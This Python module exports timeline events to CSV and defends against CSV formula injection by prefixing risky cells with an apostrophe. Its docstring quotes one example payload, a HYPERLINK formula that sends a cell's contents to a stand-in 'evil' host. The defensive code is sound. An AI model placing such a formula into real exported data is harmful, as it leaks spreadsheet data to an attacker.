"""The events of a folder as a CSV table, one row per event, for spreadsheets.

Written with the standard ``csv`` module (RFC 4180 quoting, so a text with
commas, quotes or line breaks stays one cell) and read back the same way.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some also after a tab or carriage return: a story someone sent
you could hold ``=HYPERLINK("http://evil/?"&A1, "click")`` as an event's text.
Following OWASP's advice on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), every such cell is
written with a ``'`` in front, which spreadsheets show as text and do not
run. The price: a text that really starts with one of these characters
(``-5 °C``) reads ``'-5 °C`` in the file.

Pure Python: ``--export-csv`` runs on a server without Qt.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import TextIO

from viewer.model.export import _path_text
from viewer.model.story import Event, Library, Story

__all__ = ["HEADER", "event_rows", "neutralise", "write_csv"]

HEADER = (
    "file", "story", "date", "start", "end", "precision", "text", "citations", "source titles",
    "source urls",
)
"""The columns: ``date`` as written; ``start``/``end`` ISO days, inclusive; several citations
separated by ``; ``, their sources' titles and urls one per line, in the order of the citations."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet shows it as text: ``'`` before a formula's first character."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def _event_row(story: Story, event: Event) -> list[str]:
    span = event.span
    sources = [story.source(number) for number in event.citations]
    return [
        _path_text(story.file),
        story.title,
        event.date_text,
        span.start.isoformat() if span else "",
        span.end.isoformat() if span else "",
        span.precision.value if span else "",
        event.text,
        "; ".join(str(number) for number in event.citations),
        "\n".join((s.title or "") if s is not None else "" for s in sources),
        "\n".join((s.url or "") if s is not None else "" for s in sources),
    ]


def event_rows(stories: Iterable[Story]) -> Iterator[list[str]]:
    """Every event of ``stories`` as a row of ``HEADER``'s cells (not yet neutralised), undated ones too."""
    for story in stories:
        for event in story.events:
            yield _event_row(story, event)


def write_csv(stories: Library | Iterable[Story], out: TextIO) -> int:
    """Write the header and one row per event; return the number of events written.

    Args:
        stories: a library (all its stories) or the stories to write, in order.
        out: a text stream opened with ``newline=""`` (the csv module ends rows with CRLF itself).
    """
    if isinstance(stories, Library):
        stories = stories.stories
    writer = csv.writer(out)
    writer.writerow(HEADER)
    count = 0
    for row in event_rows(stories):
        writer.writerow([neutralise(cell) for cell in row])
        count += 1
    return count
